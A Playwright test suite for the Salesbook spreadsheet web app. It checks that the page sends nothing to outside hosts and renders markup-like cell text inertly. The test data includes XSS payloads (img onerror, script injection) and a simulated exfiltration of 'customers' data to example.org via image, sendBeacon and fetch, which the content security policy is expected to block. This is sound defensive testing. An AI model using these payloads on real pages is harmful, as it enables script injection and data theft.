/** What a cautious administrator asks, in a real browser: nothing leaves the page, and no text of a cell ever runs. */
import { readFileSync } from "node:fs";
import type { BrowserContext, Page } from "playwright-core";
import { readWorkbook } from "../../src/import/read-workbook";
import { browserSuite } from "../support/needs";
import { watch, watchedBrowser, type Watch, type WatchedBrowser } from "./outside-world";
import { cellAt, openSite, typeInto, untilShown, type Site } from "./workbench-page";

const OFFICE_JS = "https://appsforoffice.microsoft.com/lib/1/hosted/office.js";
const NASTY = `<img src=x onerror="window.harmed=1">`;
const NASTIER = `"><script>window.harmed=1</script><b>bold</b>`;

browserSuite("security", (executablePath) => {
  let site: Site;
  let watched: WatchedBrowser;
  let context: BrowserContext;
  let page: Page;
  let seen: Watch;

  beforeAll(async () => {
    site = await openSite(executablePath);
    watched = await watchedBrowser(executablePath);
  }, 180_000);

  afterAll(async () => {
    await watched?.close();
    await site?.close();
  });

  beforeEach(async () => {
    context = await watched.browser.newContext({ locale: "en", viewport: { width: 1280, height: 1500 }, reducedMotion: "reduce" });
    seen = await watch(context);
    page = await context.newPage();
  });

  afterEach(async () => {
    await context.close();
  });

  const openFile = (name: string, content: string): Promise<void> =>
    page.locator("[data-role=open-file]").setInputFiles({ name, mimeType: "text/csv", buffer: Buffer.from(content, "utf8") });

  const makeTables = (): Promise<void> => page.getByRole("button", { name: "Make tables" }).click();

  async function addSheet(): Promise<void> {
    await page.getByRole("button", { name: "Add an empty sheet" }).click();
    await page.getByRole("tab", { name: "Sheet 1", selected: true }).waitFor();
    await untilShown(cellAt(page, 0, 0), "");
  }

  /** What must hold after everything that a user does. */
  function expectQuiet(): void {
    expect({ refused: seen.refused, errors: seen.errors, asked: watched.asked }).toEqual({ refused: [], errors: [], asked: [] });
    const elsewhere = seen.requests
      .map((request) => request.url())
      .filter((url) => !url.startsWith(site.address) && !/^(?:blob|data):/.test(url));
    expect(elsewhere).toEqual([]);
    const telling = seen.requests.filter((request) => request.method() !== "GET" || request.postData() !== null);
    expect(telling.map((request) => request.url())).toEqual([]);
  }

  test("a table, a file, a formula and a download ask for files of Salesbook's own and nothing else", async () => {
    await page.goto(`${site.address}/workbench.html`);
    await page.locator("[data-choice='6-9']").first().click();
    await page.getByRole("radio", { name: /Sample data/ }).check();
    const before = seen.requests.length;
    await page.getByRole("button", { name: "Insert sheets" }).click();
    await page.locator(".wb-mark-A").first().waitFor();
    await openFile("secret-customers.csv", "Customer,Average monthly sales\nSecret & Co,12345\nB,50\n");
    await makeTables();
    await page.getByText("secret-customers.csv opened").waitFor();
    await addSheet();
    await typeInto(page, 1, 1, "=CREDITLIMIT_NET(100,40,3)");
    await untilShown(cellAt(page, 1, 1), "20");
    const [download] = await Promise.all([page.waitForEvent("download"), page.keyboard.press("Control+s")]);
    expect((await readWorkbook(new Uint8Array(readFileSync(await download.path())))).length).toBeGreaterThan(2);
    // Time for anything that would be sent a little later.
    await page.waitForTimeout(1_000);

    expectQuiet();
    const later = seen.requests.slice(before).map((request) => new URL(request.url()));
    const files = later.filter(({ protocol }) => protocol === "http:").map(({ pathname, search }) => pathname + search);
    expect(
      files.filter(
        (file) =>
          !/^\/(?:chunks\/[\w.-]+\.js|thumbnails\/[\w./-]+\.svg|[\w-]+(?:\.\w+)?\.(?:js|html|png|ico|webmanifest)(?:\?[\w=&]*)?|assets\/[\w-]+\.png)$/.test(
            file,
          ),
      ),
    ).toEqual([]);
    expect(
      seen.requests.map((request) => decodeURIComponent(request.url())).filter((url) => /secret|12345|CREDIT(?!\.svg$)/i.test(url)),
    ).toEqual([]);
  }, 120_000);

  test("a customer, a file, a sheet and a formula's result named like markup are shown as they are written", async () => {
    await page.goto(`${site.address}/workbench.html`);
    const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
    await openFile(`${NASTY}.csv`, `Customer,Average monthly sales\n${quoted(NASTY)},900\n${quoted(NASTIER)},100\n`);
    await makeTables();
    await page.locator(".wb-mark-A").first().waitFor();
    await page.locator(".rgCell").filter({ hasText: NASTY }).first().waitFor();
    expect(await page.locator("svg[role=img] desc").first().textContent()).toContain(NASTY);

    await openFile(`${NASTIER}.csv`, `${quoted(NASTY)},b\n1,${quoted(NASTIER)}\n`);
    await untilShown(cellAt(page, 0, 1), "b");
    await page.locator(".rgCell").filter({ hasText: NASTIER }).first().waitFor();
    await addSheet();
    await typeInto(page, 1, 1, `=${quoted(NASTY)}&"!"`);
    await cellAt(page, 1, 1)
      .filter({ hasText: `${NASTY}!` })
      .waitFor();
    await typeInto(page, 2, 1, NASTIER);
    await cellAt(page, 2, 1).filter({ hasText: NASTIER }).waitFor();
    // What cannot be read is told in its own words, too.
    await openFile("amounts.csv", `Customer,Average monthly sales\nA,${quoted(NASTY)}\n`);
    await page.getByRole("dialog").getByText(NASTY).last().waitFor();

    await expectHarmless();
  }, 120_000);

  test("the pane shows a file's headings and faults as they are written", async () => {
    await page.goto(`${site.address}/workbench.html`);
    await page.locator("[data-choice='6-9']").first().click();
    await page.getByRole("radio", { name: "Your own data from a file" }).check();
    const choose = (content: string): Promise<void> =>
      page
        .locator("form input[type=file]")
        .setInputFiles({ name: `${NASTY}.csv`, mimeType: "text/csv", buffer: Buffer.from(content, "utf8") });
    await choose(`Customer,Average monthly sales,${NASTY.replaceAll('"', "")}\nA,1,2\n`);
    await page.getByText("What is in the file").waitFor();
    await page.locator("form").getByText("<img src=x").first().waitFor();
    await choose(`Customer,Average monthly sales\nA,<b>${NASTY.replaceAll('"', "")}\n`);
    await page.getByText("To settle first", { exact: true }).waitFor();
    await page.locator("form").getByText("<b><img src=x").first().waitFor();
    await expectHarmless();
  }, 120_000);

  test("what would run or talk behind the user's back is refused by the page itself", async () => {
    await page.goto(`${site.address}/workbench.html`);
    await page.getByRole("button", { name: "Open a file" }).waitFor();
    await page.evaluate(async () => {
      const script = document.createElement("script");
      script.textContent = "window.harmed = 1";
      const button = document.createElement("button");
      button.setAttribute("onclick", "window.harmed = 1");
      const image = document.createElement("img");
      image.src = "https://example.org/collect?customers=all";
      document.body.append(script, button, image);
      button.click();
      navigator.sendBeacon("https://example.org/collect", "customers");
      await fetch("https://example.org/collect", { method: "POST", body: "customers" }).catch(() => undefined);
    });
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => "harmed" in window)).toBe(false);
    expect([...new Set(seen.refused.map((what) => what.split(" ")[0]))].sort()).toEqual([
      "connect-src",
      "img-src",
      "script-src-attr",
      "script-src-elem",
    ]);
    expect(watched.asked).toEqual([]);
  }, 60_000);

  test("the pane's page asks for office.js besides its own files, and its policy lets it", async () => {
    await context.route(OFFICE_JS, (route) =>
      route.fulfill({
        contentType: "text/javascript",
        body: `window.Office = { HostType: { Excel: "Excel" }, onReady: () => Promise.resolve({ host: null, platform: null }) };`,
      }),
    );
    await page.goto(`${site.address}/taskpane.html`);
    await page.getByText("No spreadsheet is running around it").waitFor();
    const elsewhere = seen.requests.map((request) => request.url()).filter((url) => !url.startsWith(site.address));
    expect(elsewhere).toEqual([OFFICE_JS]);
    expect({ refused: seen.refused, errors: seen.errors, asked: watched.asked }).toEqual({ refused: [], errors: [], asked: [] });
  }, 60_000);

  test.each(["functions", "functions.zh-CN", "functions.zh-TW"])(
    "the help page %s needs nothing but itself",
    async (name) => {
      await page.goto(`${site.address}/help/${name}.html`);
      await page.locator("#ABCCLASS").waitFor();
      await page.waitForTimeout(300);
      expectQuiet();
      const isPlain = name === "functions";
      const others = seen.requests
        .map((request) => request.url().slice(site.address.length))
        .filter((path) => !/\.html$|favicon/.test(path));
      expect(others).toEqual(isPlain ? ["/help/language.js"] : []);
      expect(await page.locator("script").count()).toBe(isPlain ? 1 : 0);
    },
    60_000,
  );

  test.each([
    ["zh-CN", "functions.html#ABCCLASS", "functions.zh-CN.html#ABCCLASS"],
    ["zh-HK", "guide.html", "guide.zh-TW.html"],
    ["zh-TW", "functions.html?en#ABCCLASS", "functions.html?en#ABCCLASS"],
    ["fr", "functions.html", "functions.html"],
  ])(
    "opened directly by a reader of %s, %s is %s",
    async (locale, opened, shown) => {
      const context = await site.browser.newContext({ locale });
      const own = await context.newPage();
      await own.goto(`${site.address}/help/${opened}`);
      await own.waitForURL(`${site.address}/help/${shown}`);
      await own.locator("main").waitFor();
      expect(own.url()).toBe(`${site.address}/help/${shown}`);
      await context.close();
    },
    60_000,
  );

  async function expectHarmless(): Promise<void> {
    expect(seen.markup.filter((text) => /onerror|harmed|<b>bold/.test(text))).toEqual([]);
    expect(await page.locator("img[onerror], img[src=x], script:not([src]), b").count()).toBe(0);
    expect(await page.evaluate(() => "harmed" in window)).toBe(false);
    expectQuiet();
  }
});
